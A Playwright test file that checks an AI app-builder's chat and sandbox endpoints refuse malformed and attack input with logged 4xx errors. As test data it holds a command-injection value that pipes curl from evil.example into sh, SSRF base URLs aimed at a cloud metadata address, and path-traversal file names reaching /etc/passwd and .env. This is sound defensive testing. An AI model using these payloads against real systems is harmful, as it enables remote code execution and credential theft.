import { expect, test, type APIResponse } from "@playwright/test";
import { BASE_URL } from "../../playwright.config";
import { FAKE_MODEL_ID } from "./support/fake-model";
import { logLinesFor } from "./support/server-log";

/*
 * Bad input to the builder's endpoints, sent the way an attacker (or a confused client) would:
 * each is refused with a 4xx whose message names the problem, one security event is logged, and
 * nothing reaches a model or a sandbox.
 */

const ORIGIN = BASE_URL;
const headers = { origin: ORIGIN, "content-type": "application/json" };
const PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

const chat = (overrides: Record<string, unknown> = {}) => ({
  projectId: "p-attack",
  model: FAKE_MODEL_ID,
  template: "auto",
  messages: [{ role: "user", content: "Build a counter" }],
  ...overrides,
});

const run = (files: { path: string; content: string }[]) => ({
  projectId: "p-attack",
  state: { template: "react", files, entry: "src/App.tsx", dependencies: { npm: [], pip: [] }, port: null },
});

async function expectRefused(res: APIResponse, status: number, message: RegExp, event = "validation.failed") {
  const body = await res.json();
  expect(res.status(), JSON.stringify(body)).toBe(status);
  expect(body.error.message).toMatch(message);
  const requestId = res.headers()["x-request-id"]!;
  const lines = await logLinesFor(requestId);
  const events = lines.filter((l) => l.security === true);
  expect(events, `one security event for ${requestId}`).toHaveLength(1);
  expect(events[0]).toMatchObject({ event, requestId });
  // Nothing got as far as a model call or a sandbox.
  expect(lines.some((l) => "sandboxId" in l || "model" in l)).toBe(false);
}

test.describe("builder endpoints refuse bad input", () => {
  // The endpoints serve only the caller's saved projects; this one is the attacker's own.
  test.beforeAll(async ({ request }) => {
    const res = await request.post("/api/projects", { headers, data: { id: "p-attack", title: "Attack surface" } });
    expect([200, 201]).toContain(res.status());
  });

  test("unknown model id → 400 naming it", async ({ request }) => {
    const res = await request.post("/api/chat", { headers, data: chat({ model: "openai:gpt-imaginary" }) });
    await expectRefused(res, 400, /gpt-imaginary/);
  });

  test("unknown template → 400 listing the templates", async ({ request }) => {
    const res = await request.post("/api/chat", { headers, data: chat({ template: "cobol" }) });
    await expectRefused(res, 400, /Unknown template "cobol".*react/);
  });

  test("101 messages → 400 with the cap", async ({ request }) => {
    const messages = Array.from({ length: 101 }, (_, i) => ({ role: i % 2 ? "assistant" : "user", content: `m${i}` }));
    messages[100] = { role: "user", content: "last" };
    const res = await request.post("/api/chat", { headers, data: chat({ messages }) });
    await expectRefused(res, 400, /more than 100 messages/);
  });

  test("a 20 MB image → 413 naming the image cap", async ({ request }) => {
    const big = Buffer.alloc(20 * 1024 * 1024, 1);
    Buffer.from(PNG_1PX, "base64").copy(big);
    const data = chat({ messages: [{ role: "user", content: "Like this", images: [{ mediaType: "image/png", data: big.toString("base64") }] }] });
    const res = await request.post("/api/chat", { headers, data });
    await expectRefused(res, 413, /Images are capped at 5 MiB/, "body.too_large");
  });

  test("a text file renamed .png → 400: its bytes are not an image", async ({ request }) => {
    const text = Buffer.from("#!/bin/sh\necho this is not a picture\n").toString("base64");
    const data = chat({ messages: [{ role: "user", content: "See", images: [{ mediaType: "image/png", data: text, name: "shot.png" }] }] });
    const res = await request.post("/api/chat", { headers, data });
    await expectRefused(res, 400, /messages\.0\.images\.0 is not a PNG, JPEG, WebP or GIF/);
  });

  for (const baseUrl of ["http://127.0.0.1:11434/v1", "http://169.254.169.254/latest"]) {
    test(`custom base URL ${baseUrl} → 400 (not allowed by this server's config)`, async ({ request }) => {
      const res = await request.post("/api/chat", { headers, data: chat({ baseUrl, apiKey: "sk-user-own-key-123456" }) });
      await expectRefused(res, 400, /base URL/i);
    });
  }

  for (const [path, why] of [
    ["../../etc/passwd", /\.\. segment/],
    ["src/.env", /\.env/],
    ["/abs", /absolute/],
  ] as const) {
    test(`fragment path ${path} → 400 before any sandbox`, async ({ request }) => {
      const res = await request.post("/api/sandbox", {
        headers,
        data: run([
          { path: "src/App.tsx", content: "export default function App() { return null }" },
          { path, content: "x" },
        ]),
      });
      await expectRefused(res, 400, why);
    });
  }

  test("10,000 files → 400 with the file cap", async ({ request }) => {
    const files = Array.from({ length: 10_000 }, (_, i) => ({ path: `src/f${i}.ts`, content: "" }));
    const res = await request.post("/api/sandbox", { headers, data: run(files) });
    await expectRefused(res, 400, /more than 100 files/);
  });

  test("a dependency that is not a package name → 400", async ({ request }) => {
    const data = run([{ path: "src/App.tsx", content: "export default function App() { return null }" }]);
    (data.state.dependencies as { npm: string[] }).npm = ["left-pad; curl evil.example | sh"];
    const res = await request.post("/api/sandbox", { headers, data });
    await expectRefused(res, 400, /not an npm package name/);
  });
});
